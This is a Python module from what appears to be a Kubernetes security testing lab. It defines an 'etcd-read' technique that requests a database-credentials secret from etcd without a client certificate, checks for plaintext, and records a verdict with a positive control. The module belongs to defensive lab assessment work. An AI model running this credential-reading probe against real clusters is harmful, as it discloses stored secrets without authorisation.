"""Read a secret from etcd without a credential.

The attacker needs a connection to the client port of etcd. They ask for the key of a secret with
one HTTP request. It succeeds if etcd accepts callers without a certificate and stores secrets in
plaintext. Client certificates stop it, users in etcd stop it, and with encryption at rest the
attacker gets only a ciphertext.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.techniques._lib.stores.etcd import (
    answers_anonymous,
    as_apiserver,
    ask,
    client_channel,
    decode,
    stores_plaintext,
)
from labkit.techniques._lib.stores.secret import sample, true_secret
from labkit.techniques._lib.technique import (
    NETWORK,
    POD,
    SECRETS,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    Technique,
    then,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WANTED = ("shop", "db-credentials", "password")
KEY = "/registry/secrets/shop/db-credentials"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether etcd accepts callers without a credential, and stores plaintext."""
    return then(answers_anonymous(model), stores_plaintext(model))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Ask etcd for a secret without a credential.

    Returns
    -------
    Verdict
        Refused, too, if etcd returns a ciphertext.

    Raises
    ------
    ProbeTimeout
        etcd did not answer.
    ProbeError
        etcd answered, but neither with the secret nor with a known refusal.
    """
    secret = true_secret(lab, *WANTED)
    server = client_channel(lab).server
    answer = ask(lab, "range", KEY, foothold)
    details = {}
    evidence = [f"asked {server} for {KEY}, without a credential"]
    control = ""
    if not answer.refusal:
        value = b"".join(decode(answer))
        details["sample"] = sample(f"what {server} answers", value, secret)
        if secret.found_in(value):
            evidence.append(f"read: {secret.proof}")
            reason = f"HTTP {answer.status}, {server.split('@')[0]} does not authenticate callers"
            return Verdict(
                TECHNIQUE.name, lab.mode, foothold, True, reason, tuple(evidence), "", details
            )
        if not value.startswith(b"k8s:enc:"):
            raise ProbeError(f"{server} answered, but not with {secret}")
    reason = answer.refusal or "the value is a ciphertext"
    keys = as_apiserver(lab, "get", KEY, "--keys-only").split()
    if keys != [KEY]:
        raise ProbeError(f"positive control: the apiserver cannot read {KEY} from {server}")
    control = "with the apiserver's certificate, the same machine gives the key"
    return Verdict(
        TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control, details
    )


TECHNIQUE = Technique(
    name="etcd-read",
    title="Read a secret out of etcd",
    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
    grants=(SECRETS,),
    about="kube-apiserver@* -> etcd@*",
    properties=("encryption", "client_authentication", "authorization"),
    attack=("T1552.007",),
    stride=("information disclosure",),
    cwe=("CWE-306",),
    sources=(
        "Securing communications in Kubernetes (2016), etcd",
        "https://etcd.io/docs/latest/op-guide/security/",
        "https://attack.mitre.org/techniques/T1552/007/",
    ),
    predict=predict,
    execute=execute,
)
